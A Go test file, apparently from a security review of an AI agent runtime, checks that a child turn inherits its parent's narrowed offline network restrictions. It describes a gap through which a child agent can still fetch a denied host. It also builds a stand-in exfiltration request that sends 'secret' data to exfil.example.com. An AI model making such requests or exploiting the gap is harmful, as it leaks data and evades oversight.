package tests

import (
	"net/http"
	"testing"
)

// TestAttack177ChildMissesParentsOfflineList: the hundred-and-seventy-
// seventh review, the same comparison as
// TestAttack177RuntimeDropsOfflineAllowList seen from a child turn. A
// parent's change of permissions narrows its running children
// (NarrowToParent), skipped when the narrowed snapshot is no narrower
// than the child's (domain.Widens). Two disabled networks are compared by
// their unix sockets and lock alone, so a parent narrowed from
// ":workspace" (network off, no list) to an offline profile that keeps an
// allow-list and a denied host leaves its child as it was: the child's
// disabled network has no list, and a fetch of the host the parent now
// refuses (host_denied) is asked of a person in the child, and fetched
// once allowed. A child is never broader than its parent (REFERENCE §6).
//
// Controls: after the change the parent refuses the fetch; a child started
// after the change refuses it too (IntersectNetwork keeps the lists).
func TestAttack177ChildMissesParentsOfflineList(t *testing.T) {
	t.Parallel()
	s, runtime, root := profileRuntime(t, `
[permissions.offline]
extends = ":workspace"
[permissions.offline.network]
enabled = false
[permissions.offline.network.domains]
"docs.example.org" = "allow"
"exfil.example.com" = "deny"
`)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "p", "workspace_id": "ws", "thread_id": "th",
		"permission_profile": map[string]any{"profile": ":workspace"}, "workspace_root": root}, http.StatusCreated, nil)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "c", "workspace_id": "ws", "thread_id": "th",
		"parent_turn_id": "p"}, http.StatusCreated, nil)
	// The admin (the service's own credential) narrows the parent.
	if st, _ := s.Request("POST", "/v1/turns/p/permissions", map[string]any{"permission_profile": map[string]any{"profile": "offline"}}); st != http.StatusOK {
		t.Fatalf("narrowing the parent to offline: %d", st)
	}
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "late", "workspace_id": "ws", "thread_id": "th",
		"parent_turn_id": "p"}, http.StatusCreated, nil)

	evil := map[string]any{"url": "https://exfil.example.com/upload?d=secret"}
	if d := runtime.decide("p", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_denied" {
		t.Fatalf("control: the parent, narrowed to offline, refuses the fetch of the denied host: %+v", d)
	}
	if d := runtime.decide("late", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_denied" {
		t.Fatalf("control: a child started after the change refuses it: %+v", d)
	}
	d := runtime.decide("c", "f1", "web_fetch", evil)
	if d.Decision != "deny" {
		t.Errorf("the child started before its parent was narrowed to offline asks about the host its parent now denies: %s (%s, request %v)", d.Decision, d.Reason, d.Request != nil)
	}
	if d.Request != nil {
		s.respond(d.Request.RequestID, "allow_once")
		if d := runtime.decide("c", "f1", "web_fetch", evil); d.Decision == "allow" {
			t.Errorf("and once a person allows it, the child fetches the host its parent denies (%s)", d.Reason)
		}
	}
}
